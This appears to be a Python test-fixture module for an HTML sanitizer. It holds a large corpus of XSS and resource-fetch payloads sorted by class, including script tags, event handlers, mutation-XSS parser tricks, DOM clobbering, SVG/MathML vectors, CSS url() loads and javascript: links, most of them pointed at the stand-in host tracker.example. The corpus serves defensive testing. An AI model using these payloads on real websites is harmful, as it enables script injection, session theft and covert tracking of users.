"""HTML that wants out: our own corpus, class by class. Each piece tries to run `RUN` or to fetch from `FAR`.

What runs sets `owned` on the page and in the frame; what fetches asks a host that no test ever answers.
"""

RUN = "top.owned=1;self.owned=1;document.title=1"
FAR = "https://tracker.example/"

SCRIPT_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}s1></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"<script type=module>import '{FAR}s2'</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{FAR}s3"]}}]}}</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template><template shadowrootmode=open><script>{RUN}</script></template>",
    f"<xml><script>{RUN}</script></xml><?xml-stylesheet href='{FAR}s4'?>",
    f"<!--><script>{RUN}</script>--><!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<title><script>{RUN}</script></title><textarea><script>{RUN}</script>",
)
HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror=\n{RUN}>",
    f'<img src="x"onerror="{RUN}">',
    f"<body onload={RUN}><frameset onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<p onpointerrawupdate={RUN} onmouseover={RUN} style=padding:99px>x</p>",
    f"<input autofocus onfocus={RUN}><p tabindex=0 autofocus onfocus={RUN} contenteditable>x",
    f"<marquee onstart={RUN}>x</marquee><video onloadstart={RUN}><source onerror={RUN}></video>",
    f"<a href=# onclick={RUN} id=x accesskey=x>x</a><div popover id=p onbeforetoggle={RUN}>x</div>",
    f"<style onload={RUN}></style><link rel=stylesheet href=x onerror={RUN}>",
    f"<p style='animation:x 1s' onanimationstart={RUN}>x</p><p onscrollsnapchange={RUN}>x",
    f"<img src=data:image/gif;base64,AAAA onerror={RUN}><img src=cid:x onload={RUN}>",
)
MUTATION = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg><desc><noscript><p title="</noscript></desc></svg><img src=x onerror={RUN}>">',
    f"<table><td><svg><desc><td></desc></svg><img src=x onerror={RUN}>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror={RUN}>">',
    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
    f'<p id="&lt;/p&gt;&lt;img src=x onerror={RUN}&gt;"><listing>&lt;img src=x onerror={RUN}&gt;</listing>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><plaintext><img src=x onerror={RUN}>',
    f"<noembed><img title=\"</noembed><img src=x onerror={RUN}>\"></noembed><noframes><p title='</noframes><img src=x onerror={RUN}>'>",
    "<div>" * 600 + f"<img src=x onerror={RUN}>",
    f'<p title="data-pli-onerror={RUN}" data-pli-onclick={RUN}>x</p><img src=x data-pli-onerror={RUN}>',
    f"<b data-pli-style='background:url({FAR}m1)' style=\"x\">x</b><p/style=background:url({FAR}m2)>x",
)
CLOBBERING = (
    "<form id=attributes><input name=attributes><input name=nodeName></form>",
    "<form><input name=parentNode><input name=childNodes><input name=removeAttribute></form>",
    "<img name=getElementById><img name=body><img name=defaultView><a id=self><a id=self name=postMessage>",
    "<iframe name=content src=about:blank></iframe><div id=content>x</div><header id=head>x</header><main id=main>x</main>",
    "<form id=document><output name=createElement></form><object id=globalThis></object><embed name=top>",
    "<base href='https://tracker.example/c1/'><img src=c2.gif><a href=c3>x</a>",
)
VECTOR = (
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href='{FAR}v1#x'/><image href='{FAR}v2'/><image xlink:href='{FAR}v3'/><feImage href='{FAR}v4'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe><body onload={RUN}></foreignObject></svg>",
    f"<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={RUN}><image href={FAR}v5 /></svg>'>",
    f"<math href='javascript:{RUN}'>x</math><math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<svg><style>@import url({FAR}v6)</style><rect fill='url({FAR}v7#x)' filter='url({FAR}v8#x)'/></svg>",
    f"<img src='data:text/html,<script>{RUN}</script>'><object data='data:image/svg+xml,<svg onload={RUN}>'></object>",
)
STYLES = (
    f"<style>@import url({FAR}t1);@import '{FAR}t2'</style>",
    f"<style>*{{background:url({FAR}t3)}}@font-face{{font-family:x;src:url({FAR}t4)}}body{{font-family:x}}</style>x",
    f"<link rel=stylesheet href={FAR}t5><link rel=preload as=image href={FAR}t6><link rel=icon href={FAR}t7>",
    f'<p style="background:url({FAR}t8)">x</p><p style="background-image:\\75\\72\\6c({FAR}t9)">x</p>',
    f"<p style=\"list-style:url('{FAR}t10')\">x</p><ul style='list-style-image:url({FAR}t11)'><li>x</ul>",
    f'<p style="background:image-set(\'{FAR}t12\' 1x)">x</p><p style="background:-webkit-image-set(url({FAR}t13) 1x)">x</p>',
    f'<p style="content:url({FAR}t14);cursor:url({FAR}t15),auto;mask:url({FAR}t16)">x</p>',
    f'<p style="background:url/**/({FAR}t17);background:UR\\4c({FAR}t18)">x</p>',
    f'<p style="width:expression({RUN});behavior:url({FAR}t19);-moz-binding:url({FAR}t20)">x</p>',
    f"<p style='--x:url({FAR}t21);background:var(--x)'>x</p><p style='background:src({FAR}t22)'>x</p>",
    f"<p style=\"border-image:cross-fade(url({FAR}t23),red) 1\">x</p><p style='shape-outside:url({FAR}t24);float:left'>x</p>",
    f"<style>:root{{--a:url({FAR}t25)}}input[value^=a]{{background:url({FAR}t26)}}</style><input value=abc>",
)
FETCHING = (
    f"<img src={FAR}f1><img srcset='{FAR}f2 2x'><picture><source srcset={FAR}f3><img></picture>",
    f"<img lowsrc={FAR}f4 dynsrc={FAR}f5 longdesc={FAR}f6><image src={FAR}f7>",
    f"<table background={FAR}f8><tr><td background={FAR}f9>x</table><body background={FAR}f10>",
    f"<video src={FAR}f11 poster={FAR}f12><track src={FAR}f13></video><audio src={FAR}f14 autoplay></audio>",
    f"<iframe src={FAR}f15></iframe><frame src={FAR}f16><embed src={FAR}f17><object data={FAR}f18></object><applet archive={FAR}f19>",
    f"<input type=image src={FAR}f20><button formaction={FAR}f21>x</button><isindex action={FAR}f22>",
    f"<link rel=dns-prefetch href=//tracker.example><link rel=preconnect href={FAR}><link rel=modulepreload href={FAR}f23>",
    f"<a ping={FAR}f24 href={FAR}f25>x</a><blockquote cite={FAR}f26>x</blockquote><q cite={FAR}f27>x</q><ins cite={FAR}f28>x</ins>",
    f"<meta http-equiv=refresh content='0;url={FAR}f29'><meta http-equiv=Link content='<{FAR}f30>;rel=preload;as=image'>",
    f"<html manifest={FAR}f31><head profile={FAR}f32></head></html><bgsound src={FAR}f33><layer src={FAR}f34>",
    "<img src='//tracker.example/f35'><img src='\\\\tracker.example\\f36'><img src='ht\ntps://tracker.example/f37'>",
    f"<img src='blob:{FAR}f38'><img src='filesystem:{FAR}f39'><img src='file:///etc/passwd'><img src='/static/f40'>",
    f"<img src=data:image/png;base64,AAAA srcset={FAR}f41><img loading=lazy src={FAR}f42 fetchpriority=high>",
    f"<form action={FAR}f43 id=g><input name=x></form><input form=g type=submit><form method=dialog></form>",
)
LINKS = (
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a><a href=' javascript:{RUN}'>x</a><a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a><a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a><a href='livescript:{RUN}'>x</a><a href='view-source:{FAR}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href='data:image/svg+xml,<svg onload={RUN}>'>x</a>",
    "<a href='blob:null/1'>x</a><a href='filesystem:x'>x</a><a href='file:///etc/passwd'>x</a><a href='about:blank'>x</a>",
    f"<img usemap=#m src=x><map name=m><area shape=default href='javascript:{RUN}'><area href='{FAR}l1' ping='{FAR}l2'></map>",
    f"<a href='{FAR}l3' target=_top>x</a><a href='{FAR}l4' download>x</a><a href='#x' target=_parent>x</a>",
    f"<a xlink:href='javascript:{RUN}'>x</a><area href='javascript:{RUN}'><link rel=next href='javascript:{RUN}'>",
)
CLASSES = {
    "script elements": SCRIPT_ELEMENTS,
    "handlers": HANDLERS,
    "mutation": MUTATION,
    "clobbering": CLOBBERING,
    "SVG and MathML": VECTOR,
    "styles": STYLES,
    "fetching": FETCHING,
    "links": LINKS,
}
ALL = tuple(piece for pieces in CLASSES.values() for piece in pieces)
